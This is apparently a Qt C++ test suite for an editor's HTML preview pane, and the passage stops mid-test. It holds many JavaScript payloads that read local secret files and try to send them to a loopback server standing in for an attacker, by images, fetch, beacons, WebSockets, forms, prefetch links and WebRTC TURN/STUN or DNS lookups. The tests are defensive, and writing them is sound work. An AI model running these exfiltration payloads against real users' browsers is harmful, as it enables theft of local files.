// SPDX-License-Identifier: GPL-3.0-or-later
#include "BrowserProbe.h"
#include "LoopbackServer.h"

#include "app/frmMainWin.h"
#include "editor/EditorControl.h"
#include "preview/LocalAddress.h"
#include "preview/LocalFile.h"
#include "preview/PreviewBrowser.h"
#include "preview/RemoteContentBar.h"
#include "preview/RemoteContentChoice.h"
#include "previewui/Form2.h"
#include "support/ScriptedHost.h"
#include "support/TestMain.h"

#include <QApplication>
#include <QBuffer>
#include <QClipboard>
#include <QDir>
#include <QHostInfo>
#include <QImage>
#include <QNetworkDatagram>
#include <QProcess>
#include <QPushButton>
#include <QSignalSpy>
#include <QStandardPaths>
#include <QTabWidget>
#include <QTemporaryDir>
#include <QTest>
#include <QTimer>
#include <QUdpSocket>
#include <QWebEngineHistory>
#include <QWebEngineProfile>
#include <QWebEngineScriptCollection>

#include <sys/stat.h>
#include <unistd.h>

using namespace BrowserProbe;

// Pages that try to read the user's files and send them out, in the real browser engine. Each
// hostile page reports what it read in its title ("done:<text>"); a web server on the loopback
// address stands for the attacker and must hear nothing.
class tst_PreviewSafety : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase();
    void hostilePageLearnsAndSendsNothing_data();
    void hostilePageLearnsAndSendsNothing();
    void remoteContentCarriesNoLocalFile_data();
    void remoteContentCarriesNoLocalFile();
    void ownFilesShowAndTheNetworkStaysShut();
    void hostilePathsFailAtOnce_data();
    void hostilePathsFailAtOnce();
    void onlyTheUserLeavesThePage_data();
    void onlyTheUserLeavesThePage();
    void nameLookupsStayInside();
    void historyStaysOnTheProgramsPage();
    void clickTouchesNoFileNorClipboard_data();
    void clickTouchesNoFileNorClipboard();
    void endlessScriptsGiveWayToTheNextPage_data();
    void endlessScriptsGiveWayToTheNextPage();
    void documentsShareNoStorage_data();
    void documentsShareNoStorage();
    void newDocumentStartsWithFreshStorage();
    void bothPreviewsAreGuarded();
    void remoteContentLoadsOnRequest();
    void remoteContentChoiceIsTheDocuments();

private:
    QString fileUrl(const QString &name) const { return QStringLiteral("file://") + m_dir.filePath(name); }
    QString writePage(const QString &name, const QString &html) const;
    QString hostilePage(const QString &attack) const;

    QTemporaryDir m_dir;
};

namespace {

const QString secret = QStringLiteral("TOPSECRET-4242");
constexpr QSize pixelSize(37, 23);

void writeFile(const QString &path, const QByteArray &bytes)
{
    QFile file(path);
    QVERIFY(file.open(QIODevice::WriteOnly));
    QCOMPARE(file.write(bytes), bytes.size());
}

// Time for late requests (timers, ICE gathering, prefetches) after a page reports.
void settle()
{
    QTest::qWait(700);
}

// Reads of the page's own files, referred to as it refers to its images: the page is an origin
// of its own, so what it displays its scripts cannot read. Each row ends with done(what it read).
void addLocalReadRows()
{
    QTest::newRow("local JSON module")
        << "import('secret.json', {assert: {type: 'json'}}).then(function (m) { done(m.default.s); }, function () { done(''); });";
    QTest::newRow("local CSS module")
        << "import('secret.css', {assert: {type: 'css'}}).then(function (m) { done(m.default.cssRules[0].cssText); },"
           "  function () { done(''); });";
    QTest::newRow("local style sheet's rules")
        << "var l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'secret.css';"
           "l.onload = function () { var r = ''; try { r = l.sheet.cssRules[0].cssText; } catch (e) {} done(r); };"
           "l.onerror = function () { done(''); }; document.head.appendChild(l);";
    QTest::newRow("local track's cues")
        << "var v = document.createElement('video'); var t = document.createElement('track'); t.kind = 'subtitles';"
           "t.src = 'secret.vtt'; t.default = true; v.appendChild(t); document.body.appendChild(v); t.track.mode = 'hidden';"
           "t.onload = function () { var c = t.track.cues; done(c && c.length ? c[0].text : ''); };"
           "t.onerror = function () { done(''); }; setTimeout(function () { done(''); }, 3000);";
    QTest::newRow("local script's error message")
        << "window.onerror = function (m) { done(m); return true; }; var s = document.createElement('script');"
           "s.src = 'secret-throws.js'; s.onerror = function () { done(''); }; document.head.appendChild(s);";
    QTest::newRow("local image's pixels")
        << "var i = new Image(); i.onload = function () { var c = document.createElement('canvas'); c.width = i.width;"
           "  c.height = i.height; var g = c.getContext('2d'); g.drawImage(i, 0, 0); var r = '';"
           "  try { r = g.getImageData(0, 0, 1, 1).data[0] === 255 ? 'red:" + secret + "' : 'other'; } catch (e) {} done(r); };"
           "i.onerror = function () { done(''); }; i.src = 'pixel.png';";
}

} // namespace

void tst_PreviewSafety::initTestCase()
{
    QVERIFY(m_dir.isValid());
    writeFile(m_dir.filePath(QStringLiteral("secret.txt")), secret.toLatin1());
    writeFile(m_dir.filePath(QStringLiteral("secret.js")), "var leaked = '" + secret.toLatin1() + "';");
    writeFile(m_dir.filePath(QStringLiteral("secret.json")), "{\"s\": \"" + secret.toLatin1() + "\"}");
    writeFile(m_dir.filePath(QStringLiteral("secret.css")), "#secret::after { content: \"" + secret.toLatin1() + "\"; }");
    writeFile(m_dir.filePath(QStringLiteral("secret.vtt")), "WEBVTT\n\n00:00.000 --> 00:10.000\n" + secret.toLatin1() + "\n");
    writeFile(m_dir.filePath(QStringLiteral("secret-throws.js")), "throw new Error('" + secret.toLatin1() + "');");
    writeFile(m_dir.filePath(QStringLiteral("local.css")), "#box { display: block; width: 77px; }");
    writeFile(m_dir.filePath(QStringLiteral("local.js")), "window.localRan = 1;");
    writeFile(m_dir.filePath(QStringLiteral("other.html")), "<p>other page</p>");
    QImage pixel(pixelSize, QImage::Format_RGB32);
    pixel.fill(Qt::red);
    QVERIFY(pixel.save(m_dir.filePath(QStringLiteral("pixel.png"))));
    QVERIFY(QDir(m_dir.path()).mkdir(QStringLiteral("dir \u00e9")));
    QVERIFY(pixel.save(m_dir.filePath(QStringLiteral("dir \u00e9/pixel #2.png"))));
}

QString tst_PreviewSafety::writePage(const QString &name, const QString &html) const
{
    const QString path = m_dir.filePath(name);
    writeFile(path, html.toUtf8());
    return path;
}

QString tst_PreviewSafety::hostilePage(const QString &attack) const
{
    return QStringLiteral("<!DOCTYPE html><html><head><meta charset='utf-8'><title>running</title></head><body>\n"
                          "<script>\n"
                          "var S = '%1', F = '%2', H = 'http://127.0.0.1:' + PORT;\n"
                          "function done(r) { document.title = 'done:' + (r || ''); }\n"
                          "%3\n"
                          "</script></body></html>\n")
        .arg(fileUrl(QStringLiteral("secret.txt")), fileUrl(QString()), attack);
}

void tst_PreviewSafety::hostilePageLearnsAndSendsNothing_data()
{
    QTest::addColumn<QString>("attack");

    QTest::newRow("XHR of a file, sent as an image")
        << "var r = ''; try { var x = new XMLHttpRequest(); x.open('GET', S, false); x.send(); r = x.responseText; } catch (e) {}"
           "new Image().src = H + '/img?d=' + encodeURIComponent(r); done(r);";
    QTest::newRow("fetch of a file, sent by fetch")
        << "fetch(S).then(function (a) { return a.text(); }).catch(function () { return ''; }).then(function (r) {"
           "  fetch(H + '/fetch?d=' + encodeURIComponent(r), {mode: 'no-cors'}).catch(function () {}); done(r); });";
    QTest::newRow("frame read back, sent by a style's url()")
        << "var f = document.createElement('iframe'); f.src = S; f.onload = function () { var r = '';"
           "  try { r = f.contentDocument.body.innerText; } catch (e) {}"
           "  document.body.style.backgroundImage = 'url(' + H + '/css?d=' + encodeURIComponent(r) + ')'; done(r); };"
           "document.body.appendChild(f); setTimeout(function () { if (document.title === 'running') done(''); }, 2000);";
    QTest::newRow("object read back, sent as a beacon")
        << "var o = document.createElement('object'); o.data = S; o.type = 'text/plain'; document.body.appendChild(o);"
           "setTimeout(function () { var r = ''; try { r = o.contentDocument.body.innerText; } catch (e) {}"
           "  try { navigator.sendBeacon(H + '/beacon', r || 'x'); } catch (e) {} done(r); }, 500);";
    QTest::newRow("srcdoc frame reads a file, sent over a WebSocket")
        << "addEventListener('message', function (e) {"
           "  try { new WebSocket('ws://127.0.0.1:' + PORT + '/ws?d=' + encodeURIComponent(e.data)); } catch (x) {} "
           "done(e.data); });"
           "var f = document.createElement('iframe'); f.srcdoc = '<script>var r = \"\"; try { var x = new XMLHttpRequest();"
           "  x.open(\"GET\", \"' + S + '\", false); x.send(); r = x.responseText; } catch (e) {} parent.postMessage(r, "
           "\"*\");<' + '/script>';"
           "document.body.appendChild(f);";
    QTest::newRow("window of a file read back, server opened in a window")
        << "var w = window.open(S); setTimeout(function () { var r = ''; try { r = w.document.body.innerText; } catch (e) {}"
           "  window.open(H + '/open?d=' + encodeURIComponent(r)); done(r); }, 500);";
    QTest::newRow("navigation to a file") << "done(''); location = S;";
    QTest::newRow("navigation to the server") << "done(''); location = H + '/nav?d=x';";
    QTest::newRow("blob page reads a file, sent by prefetch")
        << "addEventListener('message', function (e) { var l = document.createElement('link'); l.rel = 'prefetch';"
           "  l.href = H + '/prefetch?d=' + encodeURIComponent(e.data); document.head.appendChild(l); done(e.data); });"
           "var src = '<script>var r = \"\"; try { var x = new XMLHttpRequest(); x.open(\"GET\", \"' + S + '\", false); x.send();"
           "  r = x.responseText; } catch (e) {} parent.postMessage(r, \"*\");<' + '/script>';"
           "var f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob([src], {type: 'text/html'}));"
           "document.body.appendChild(f);";
    QTest::newRow("data page fetches a file, sent by a script element")
        << "addEventListener('message', function (e) { var s = document.createElement('script');"
           "  s.src = H + '/script?d=' + encodeURIComponent(e.data); document.head.appendChild(s); done(e.data); });"
           "var src = '<script>fetch(\"' + S + '\").then(function (a) { return a.text(); }).catch(function () { return \"\"; })"
           "  .then(function (r) { parent.postMessage(r, \"*\"); });<' + '/script>';"
           "var f = document.createElement('iframe'); f.src = 'data:text/html,' + encodeURIComponent(src);"
           "document.body.appendChild(f);";
    QTest::newRow("worker fetches a file and the server")
        << "var code = 'fetch(\"' + S + '\").then(function (a) { return a.text(); }).catch(function () { return \"\"; })"
           "  .then(function (r) { fetch(\"' + H + '/worker?d=\" + r).catch(function () {}); postMessage(r); });';"
           "try { var w = new Worker(URL.createObjectURL(new Blob([code])));"
           "  w.onmessage = function (e) { done(e.data); }; w.onerror = function () { done(''); }; } catch (e) { done(''); }";
    QTest::newRow("service worker from the server")
        << "if (navigator.serviceWorker) navigator.serviceWorker.register(H + '/sw.js').then(function () { done('registered'); },"
           "  function () { done(''); }); else done('');";
    QTest::newRow("form posted to the server")
        << "var f = document.createElement('form'); f.method = 'POST'; f.action = H + '/form';"
           "var i = document.createElement('input'); i.name = 'd'; i.value = 'x'; f.appendChild(i);"
           "document.body.appendChild(f); done(''); f.submit();";
    QTest::newRow("form posted into a frame")
        << "var t = document.createElement('iframe'); t.name = 'sink'; document.body.appendChild(t);"
           "var f = document.createElement('form'); f.method = 'POST'; f.target = 'sink'; f.action = H + '/form';"
           "var i = document.createElement('input'); i.name = 'd'; i.value = 'x'; f.appendChild(i);"
           "document.body.appendChild(f); f.submit(); done('');";
    QTest::newRow("event stream") << "try { new EventSource(H + '/events?d=x'); } catch (e) {} done('');";
    QTest::newRow("prefetch, preload, preconnect, DNS prefetch and ping")
        << "['prefetch', 'preload', 'preconnect', 'dns-prefetch'].forEach(function (rel) {"
           "  var l = document.createElement('link'); l.rel = rel; l.href = H + '/' + rel; l.as = 'image';"
           "  document.head.appendChild(l); });"
           "var a = document.createElement('a'); a.href = '#here'; a.ping = H + '/ping'; document.body.appendChild(a); a.click();"
           "done('');";
    QTest::newRow("refresh to the server")
        << "var m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + H + '/refresh';"
           "document.head.appendChild(m); done('');";
    QTest::newRow("style sheet import from the server")
        << "var s = document.createElement('style'); s.textContent = '@import url(' + H + '/import.css?d=x);';"
           "document.head.appendChild(s); done('');";
    QTest::newRow("module import from the server")
        << "import(H + '/module.js?d=x').then(function () { done('imported'); }, function () { done(''); });";
    QTest::newRow("peer connection to a TURN server")
        << "try { var pc = new RTCPeerConnection({iceServers: [{urls: 'turn:127.0.0.1:' + PORT + '?transport=tcp',"
           "  username: 'd', credential: 'x'}]}); pc.createDataChannel('c');"
           "  pc.createOffer().then(function (o) { return pc.setLocalDescription(o); }).then(function () { done(''); },"
           "  function () { done(''); }); } catch (e) { done(''); }";
    // A frame's first empty document runs none of the profile's scripts, so the constructor is
    // still there; its TURN and STUN traffic must still get nowhere.
    QTest::newRow("peer connection from a fresh frame to TURN and STUN servers")
        << "var f = document.createElement('iframe'); document.body.appendChild(f); var r = 'none';"
           "try { var pc = new f.contentWindow.RTCPeerConnection({iceServers: ["
           "  {urls: ['turn:127.0.0.1:' + PORT + '?transport=tcp', 'turn:127.0.0.1:' + PORT + '?transport=udp'],"
           "   username: 'd', credential: 'x'}, {urls: 'stun:127.0.0.1:' + PORT}]}); r = 'built';"
           "  pc.createDataChannel('c'); pc.onicegatheringstatechange = function () {"
           "    if (pc.iceGatheringState === 'complete') done(r); };"
           "  pc.createOffer().then(function (o) { return pc.setLocalDescription(o); });"
           "  setTimeout(function () { done(r); }, 3000); } catch (e) { done(r); }";
    // A fresh frame of a local page is another origin: its realm is out of the script's reach.
    QTest::newRow("fresh frame's realm fetches a file, sent as an image")
        << "var f = document.createElement('iframe'); document.body.appendChild(f);"
           "try { f.contentWindow.fetch(S).then(function (a) { return a.text(); }).catch(function () { return ''; })"
           "  .then(function (r) { new Image().src = H + '/img?d=' + encodeURIComponent(r); done(r); });"
           "} catch (e) { done(''); }";
    // The page's own scripts run and may read what a local script defines; it still goes nowhere.
    QTest::newRow("local script's value sent as an image")
        << "var s = document.createElement('script'); s.src = 'secret.js';"
           "s.onload = function () { new Image().src = H + '/img?d=' + leaked; done('ran'); };"
           "s.onerror = function () { done(''); }; document.head.appendChild(s);";
    addLocalReadRows();
}

void tst_PreviewSafety::hostilePageLearnsAndSendsNothing()
{
    QFETCH(QString, attack);

    LoopbackServer server;
    QVERIFY(server.isListening());
    // STUN and TURN over UDP would come here.
    QUdpSocket datagrams;
    QVERIFY(datagrams.bind(QHostAddress::LocalHost, server.port()));
    const QString html = hostilePage(attack).replace(QLatin1String("PORT"), QString::number(server.port()));
    const QString path = writePage(QStringLiteral("hostile.html"), html);
    PreviewBrowser view;
    view.resize(400, 300);
    view.show();
    const QWidgetList windows = QApplication::topLevelWidgets();
    view.showFile(path, html);

    QTRY_VERIFY_WITH_TIMEOUT(view.title().startsWith(QLatin1String("done:")), timeout);
    settle();
    QVERIFY2(!view.title().contains(secret), qPrintable(view.title()));
    QCOMPARE(server.requests(), QStringList());
    QCOMPARE(server.connections(), 0);
    QVERIFY(!datagrams.hasPendingDatagrams());
    // A script may still move within its own page (a link to "#here").
    QCOMPARE(view.url().adjusted(QUrl::RemoveFragment), LocalAddress::url(path));
    QCOMPARE(QApplication::topLevelWidgets(), windows);
}

void tst_PreviewSafety::remoteContentCarriesNoLocalFile_data()
{
    QTest::addColumn<QString>("attack");
    addLocalReadRows();
}

// With remote content allowed a page may send out what it holds, and the files of its folder are
// served; whatever a read of one gives the page reaches the server, and it is never the file's.
void tst_PreviewSafety::remoteContentCarriesNoLocalFile()
{
    QFETCH(QString, attack);

    LoopbackServer server;
    QVERIFY(server.isListening());
    // Declared after the page's own done(), so it is the one the attack calls.
    const QString send = QStringLiteral("function done(r) { new Image().src = H + '/img?d=' + encodeURIComponent(r || 'none');"
                                        " document.title = 'done:' + (r || ''); }");
    const QString html = hostilePage(attack + send).replace(QLatin1String("PORT"), QString::number(server.port()));
    const QString path = writePage(QStringLiteral("remote.html"), html);
    PreviewBrowser view;
    view.resize(400, 300);
    view.show();
    view.setRemoteContentAllowed(true);
    view.showFile(path, html);

    QTRY_VERIFY_WITH_TIMEOUT(view.title().startsWith(QLatin1String("done:")), timeout);
    QTRY_VERIFY_WITH_TIMEOUT(!server.requests().isEmpty(), timeout);
    settle();
    const QString heard = server.requests().join(QLatin1Char('\n'));
    QVERIFY2(heard.startsWith(QLatin1String("GET /img?d=")), qPrintable(heard));
    QVERIFY2(!heard.contains(secret), qPrintable(heard));
}

void tst_PreviewSafety::ownFilesShowAndTheNetworkStaysShut()
{
    LoopbackServer server;
    QVERIFY(server.isListening());
    server.serve(QStringLiteral("/cdn.css"), "text/css", "#cdn { display: block; width: 123px; }");
    const QString html = QStringLiteral("<!DOCTYPE html><html><head>"
                                        "<link rel='stylesheet' href='local.css'>"
                                        "<link rel='stylesheet' href='%1'>"
                                        "<script src='local.js'></script></head><body>"
                                        "<img id='relative' src='pixel.png'><img id='absolute' src='%2'>"
                                        "<img id='named' src='dir%20\u00e9/pixel%20%232.png'>"
                                        "<span id='box'></span><span id='cdn'></span></body></html>")
                             .arg(server.address(QStringLiteral("/cdn.css")), fileUrl(QStringLiteral("pixel.png")));
    const QString path = writePage(QStringLiteral("own.html"), html);
    PreviewBrowser view;
    view.resize(400, 300);
    view.show();
    view.showFile(path, html);
    QVERIFY(waitShown(&view, LocalAddress::url(path)));

    QTRY_COMPARE_WITH_TIMEOUT(evaluate(&view, QStringLiteral("document.getElementById('relative').naturalWidth")).toInt(),
                              pixelSize.width(), timeout);
    QCOMPARE(evaluate(&view, QStringLiteral("document.getElementById('named').naturalWidth")).toInt(), pixelSize.width());
    // A "file:" page is one origin with every local file, so "file:" addresses load nothing.
    QCOMPARE(evaluate(&view, QStringLiteral("document.getElementById('absolute').naturalWidth")).toInt(), 0);
    QCOMPARE(evaluate(&view, QStringLiteral("document.getElementById('box').offsetWidth")).toInt(), 77);
    QCOMPARE(evaluate(&view, QStringLiteral("window.localRan")).toInt(), 1);
    // A style sheet on the network, even one the page writes out, stays unloaded.
    QCOMPARE(evaluate(&view, QStringLiteral("document.getElementById('cdn').offsetWidth")).toInt(), 0);
    QCOMPARE(server.requests(), QStringList());
}

void tst_PreviewSafety::hostilePathsFailAtOnce_data()
{
    QTest::addColumn<QString>("kind");
    QTest::addColumn<QString>("shown");

    QTest::newRow("link to a regular file") << "link" << "loaded";
    QTest::newRow("missing file") << "missing" << "failed";
    QTest::newRow("folder") << "folder" << "failed";
    // Opening a pipe to read waits for a writer; reading one would wait for ever.
    QTest::newRow("named pipe") << "fifo" << "failed";
    QTest::newRow("link to a device") << "device" << "failed";
    QTest::newRow("link loop") << "loop" << "failed";
    QTest::newRow("file over the size limit") << "huge" << "failed";
}

// The page's references are paths it chose: only a regular file of bounded size is served, and
// anything else fails at once, with the window free.
void tst_PreviewSafety::hostilePathsFailAtOnce()
{
    QFETCH(QString, kind);
    QFETCH(QString, shown);

    QTemporaryDir dir;
    QVERIFY(dir.isValid());
    const QString target = dir.filePath(QStringLiteral("target.png"));
    if (kind == QLatin1String("link")) {
        QVERIFY(QFile::link(m_dir.filePath(QStringLiteral("pixel.png")), target));
    } else if (kind == QLatin1String("folder")) {
        QVERIFY(QDir(dir.path()).mkdir(QStringLiteral("target.png")));
    } else if (kind == QLatin1String("fifo")) {
        QCOMPARE(::mkfifo(QFile::encodeName(target).constData(), 0600), 0);
    } else if (kind == QLatin1String("device")) {
        QVERIFY(QFile::link(QStringLiteral("/dev/zero"), target));
    } else if (kind == QLatin1String("loop")) {
        QVERIFY(QFile::link(dir.filePath(QStringLiteral("other.png")), target));
        QVERIFY(QFile::link(target, dir.filePath(QStringLiteral("other.png"))));
    } else if (kind == QLatin1String("huge")) {
        QFile huge(target);
        QVERIFY(huge.open(QIODevice::WriteOnly));
        QVERIFY(huge.resize(LocalFile::maxBytes + 1)); // sparse: no disk used
    }
    const QString html = QStringLiteral("<title>t</title><img src='target.png' onload=\"document.title = 'loaded'\""
                                        " onerror=\"document.title = 'failed'\">");
    const QString path = dir.filePath(QStringLiteral("page.html"));
    writeFile(path, html.toUtf8());
    PreviewBrowser view;
    view.resize(400, 300);
    view.show();
    QSignalSpy tornDown(&view, &PreviewBrowser::pageTornDown);
    view.showFile(path, html);
    QTRY_COMPARE_WITH_TIMEOUT(view.title(), shown, timeout);
    QVERIFY(tornDown.isEmpty());
}

void tst_PreviewSafety::onlyTheUserLeavesThePage_data()
{
    QTest::addColumn<QString>("body");
    QTest::addColumn<bool>("userClicks");
    QTest::addColumn<QString>("lands");
    QTest::addColumn<QStringList>("requests");

    // The link fills the top left corner of the view, where the user clicks.
    const QString link =
        QStringLiteral("<a id='a' %1 style='position:absolute; left:0; top:0; width:300px; height:60px'>link</a>");
    QTest::newRow("script opens a window") << QStringLiteral("<script>window.open('other.html');</script>") << false
                                           << QStringLiteral("hostile.html") << QStringList();
    QTest::newRow("script clicks a link") << link.arg(QStringLiteral("href='other.html'")) +
                                                 QStringLiteral("<script>document.getElementById('a').click();</script>")
                                          << false << QStringLiteral("hostile.html") << QStringList();
    QTest::newRow("user clicks a link to a new window")
        << link.arg(QStringLiteral("target='_blank' href='other.html'")) << true << QStringLiteral("other.html") << QStringList();
    QTest::newRow("user clicks a written network link")
        << link.arg(QStringLiteral("href='SERVER/page'")) << true << QStringLiteral("SERVER/page")
        << QStringList{QStringLiteral("GET /page HTTP/1.1")};
    // The server sends the view on to a host name the page never wrote.
    QTest::newRow("user clicks a written network link that redirects")
        << link.arg(QStringLiteral("href='SERVER/moved'")) << true << QStringLiteral("NAMED/page")
        << QStringList{QStringLiteral("GET /moved HTTP/1.1"), QStringLiteral("GET /page HTTP/1.1")};
    QTest::newRow("user clicks a link a script rewrote")
        << link.arg(QStringLiteral("href='SERVER/page'")) +
               QStringLiteral("<script>document.getElementById('a').href += '?d=' + document.title;</script>")
        << true << QStringLiteral("hostile.html") << QStringList();
    // The text writes the address out (here in a comment); the secret rides after the "#".
    QTest::newRow("script goes to a written address with a fragment on the user's click")
        << QStringLiteral(
               "<!-- SERVER/page --><p id='a' style='position:absolute; left:0; top:0; width:300px; height:60px'>text</p>"
               "<script>addEventListener('mousedown', function () { location = 'SERVER/page#' + document.title; });</script>")
        << true << QStringLiteral("hostile.html") << QStringList();
    QTest::newRow("script goes to a written address on the user's click")
        << QStringLiteral(
               "<!-- SERVER/page --><p id='a' style='position:absolute; left:0; top:0; width:300px; height:60px'>text</p>"
               "<script>addEventListener('mousedown', function () { location = 'SERVER/page'; });</script>")
        << true << QStringLiteral("hostile.html") << QStringList();
    QTest::newRow("user clicks a link whose fragment a script set")
        << link.arg(QStringLiteral("href='SERVER/page'")) +
               QStringLiteral("<script>document.getElementById('a').onmousedown = function () {"
                              "this.href = this.href + '#' + document.title; };</script>")
        << true << QStringLiteral("hostile.html") << QStringList();
    QTest::newRow("user clicks a link written with its fragment")
        << link.arg(QStringLiteral("href='SERVER/page#part'")) << true << QStringLiteral("SERVER/page#part")
        << QStringList{QStringLiteral("GET /page HTTP/1.1")};
    QTest::newRow("user clicks a window a script opens")
        << link.arg(QStringLiteral("href='#'")) +
               QStringLiteral("<script>document.getElementById('a').onclick = function (e) { e.preventDefault();"
                              "window.open('SERVER/page?d=' + document.title); };</script>")
        << true << QStringLiteral("hostile.html") << QStringList();
}

void tst_PreviewSafety::onlyTheUserLeavesThePage()
{
    QFETCH(QString, body);
    QFETCH(bool, userClicks);
    QFETCH(QString, lands);
    QFETCH(QStringList, requests);

    LoopbackServer server;
    QVERIFY(server.isListening());
    server.serve(QStringLiteral("/page"), "text/html", "<p>remote page</p>");
    const QString serverRoot = server.address(QString());
    const QString namedRoot = QStringLiteral("http://localhost:%1").arg(server.port());
    server.redirect(QStringLiteral("/moved"), (namedRoot + QStringLiteral("/page")).toLatin1());
    const QString html = QStringLiteral("<!DOCTYPE html><html><head><title>t</title></head><body>%1</body></html>")
                             .arg(body)
                             .replace(QLatin1String("SERVER"), serverRoot);
    const QString path = writePage(QStringLiteral("hostile.html"), html);
    lands.replace(QLatin1String("SERVER"), serverRoot).replace(QLatin1String("NAMED"), namedRoot);
    const QUrl expected = lands.startsWith(QLatin1String("http")) ? QUrl(lands) : LocalAddress::url(m_dir.filePath(lands));

    PreviewBrowser view;
    view.resize(400, 300);
    view.show();
    QVERIFY(QTest::qWaitForWindowExposed(&view));
    const QWidgetList windows = QApplication::topLevelWidgets();
    view.showFile(path, html);
    QVERIFY(waitShown(&view, LocalAddress::url(path)));
    if (userClicks) {
        QTRY_VERIFY(view.focusProxy());
        // The page's layout must be in place before the click lands on the link.
        QTRY_COMPARE_WITH_TIMEOUT(evaluate(&view, QStringLiteral("document.getElementById('a').offsetWidth")).toInt(), 300,
                                  timeout);
        QTest::mouseClick(view.focusProxy(), Qt::LeftButton, {}, QPoint(20, 20));
    }
    if (expected != view.url())
        QTRY_COMPARE_WITH_TIMEOUT(view.url(), expected, timeout);
    settle();
    QCOMPARE(view.url(), expected);
    QCOMPARE(server.requests(), requests);
    QCOMPARE(QApplication::topLevelWidgets(), windows);
}

// A page that names hosts for the engine to look up (here as TURN and STUN servers of a peer
// connection, with what it read in their names) makes no name server hear
// of them. The check runs in a copy of this test with mount and network namespaces of its own:
// only a loopback interface, and the system's resolver asking the test's name server there.
void tst_PreviewSafety::nameLookupsStayInside()
{
    if (qEnvironmentVariableIsSet("ZORVANE_NAME_SERVER_INSIDE")) {
        QUdpSocket nameServer;
        QVERIFY2(nameServer.bind(QHostAddress::LocalHost, 53), qPrintable(nameServer.errorString()));
        // The stand-in hears what this machine looks up: the program's own lookup reaches it.
        // The lookup runs to its end (the stand-in never answers): an aborted one leaks its slot.
        bool looked = false;
        QHostInfo::lookupHost(QStringLiteral("probe.zorvane-test"), &nameServer, [&looked](const QHostInfo &) { looked = true; });
        QTRY_VERIFY_WITH_TIMEOUT(nameServer.hasPendingDatagrams(), timeout);
        QTRY_VERIFY_WITH_TIMEOUT(looked, 6 * timeout);
        while (nameServer.hasPendingDatagrams())
            nameServer.receiveDatagram();

        const QString html =
            hostilePage(
                QStringLiteral("var x = new XMLHttpRequest(); x.open('GET', S, false); var r = 'none';"
                               "try { x.send(); r = x.responseText; } catch (e) {}"
                               "var name = 'leak-' + (r || 'none').replace(/[^A-Za-z0-9-]/g, '') + '.zorvane-test';"
                               "var f = document.createElement('iframe'); document.body.appendChild(f);"
                               "try { var pc = new f.contentWindow.RTCPeerConnection({iceServers: ["
                               "  {urls: ['turn:' + name + ':3478?transport=udp', 'turn:' + name + ':3478?transport=tcp'],"
                               "   username: 'd', credential: 'x'}, {urls: 'stun:stun-' + name + ':3478'}]});"
                               "  pc.createDataChannel('c'); pc.onicegatheringstatechange = function () {"
                               "    if (pc.iceGatheringState === 'complete') done(''); };"
                               "  pc.createOffer().then(function (o) { return pc.setLocalDescription(o); });"
                               "  setTimeout(function () { done(''); }, 3000); } catch (e) { done(''); }"))
                .replace(QLatin1String("PORT"), QStringLiteral("9"));
        const QString path = writePage(QStringLiteral("names.html"), html);
        PreviewBrowser view;
        view.resize(400, 300);
        view.show();
        // However a page comes by a working peer connection (here the profile's script that
        // takes its constructor away is gone), the engine looks up no name for it.
        view.page()->profile()->scripts()->clear();
        view.showFile(path, html);
        QTRY_VERIFY_WITH_TIMEOUT(view.title().startsWith(QLatin1String("done:")), timeout);
        settle();
        QStringList heard;
        while (nameServer.hasPendingDatagrams())
            heard << QString::fromLatin1(nameServer.receiveDatagram().data().toPercentEncoding());
        QCOMPARE(heard, QStringList());
        return;
    }
    if (::getuid() != 0)
        QSKIP("needs root for a mount namespace with a name server of the test's own");
    const QString unshare = QStandardPaths::findExecutable(QStringLiteral("unshare"));
    const QString ip =
        QStandardPaths::findExecutable(QStringLiteral("ip"), {QStringLiteral("/usr/sbin"), QStringLiteral("/sbin")});
    if (unshare.isEmpty() || ip.isEmpty())
        QSKIP("needs unshare(1) and ip(8) for namespaces of the test's own");
    writeFile(m_dir.filePath(QStringLiteral("resolv.conf")), "nameserver 127.0.0.1\noptions attempts:1 timeout:1\n");
    writeFile(m_dir.filePath(QStringLiteral("hosts")), "127.0.0.1 localhost\n");
    QProcess inside;
    QProcessEnvironment environment = QProcessEnvironment::systemEnvironment();
    environment.insert(QStringLiteral("ZORVANE_NAME_SERVER_INSIDE"), QStringLiteral("1"));
    inside.setProcessEnvironment(environment);
    inside.setProcessChannelMode(QProcess::MergedChannels);
    inside.start(unshare,
                 {QStringLiteral("--mount"), QStringLiteral("--net"), QStringLiteral("--propagation"), QStringLiteral("private"),
                  QStringLiteral("sh"), QStringLiteral("-c"),
                  QStringLiteral("\"$4\" link set lo up && mount --bind \"$1\" /etc/resolv.conf && "
                                 "mount --bind \"$2\" /etc/hosts && exec \"$3\" --unit tst_PreviewSafety nameLookupsStayInside"),
                  QStringLiteral("sh"), m_dir.filePath(QStringLiteral("resolv.conf")), m_dir.filePath(QStringLiteral("hosts")),
                  QCoreApplication::applicationFilePath(), ip});
    QVERIFY(inside.waitForStarted());
    QVERIFY(QTest::qWaitFor([&] { return inside.state() == QProcess::NotRunning; }, 6 * timeout));
    const QByteArray output = inside.readAll();
    if (output.startsWith("unshare: ") && inside.exitCode() != 0)
        QSKIP("this system gives the test no namespaces of its own");
    QVERIFY2(inside.exitStatus() == QProcess::NormalExit && inside.exitCode() == 0, output.constData());
}

// A script's step through the history never takes the view off the program's page, whatever
// the user visited before it.
void tst_PreviewSafety::historyStaysOnTheProgramsPage()
{
    LoopbackServer server;
    QVERIFY(server.isListening());
    server.serve(QStringLiteral("/page"), "text/html", "<p>remote page</p>");
    const QString first =
        QStringLiteral("<a id='a' href='%1' style='position:absolute; left:0; top:0; width:300px; height:60px'>link</a>")
            .arg(server.address(QStringLiteral("/page")));
    const QString firstPath = writePage(QStringLiteral("first.html"), first);
    PreviewBrowser view;
    view.resize(400, 300);
    view.show();
    QVERIFY(QTest::qWaitForWindowExposed(&view));
    view.showFile(firstPath, first);
    QVERIFY(waitShown(&view, LocalAddress::url(firstPath)));
    QTRY_VERIFY(view.focusProxy());
    QTRY_COMPARE_WITH_TIMEOUT(evaluate(&view, QStringLiteral("document.getElementById('a').offsetWidth")).toInt(), 300, timeout);
    QTest::mouseClick(view.focusProxy(), Qt::LeftButton, {}, QPoint(20, 20));
    QVERIFY(waitShown(&view, QUrl(server.address(QStringLiteral("/page")))));
    QCOMPARE(server.requests().size(), 1);

    const QString hostile =
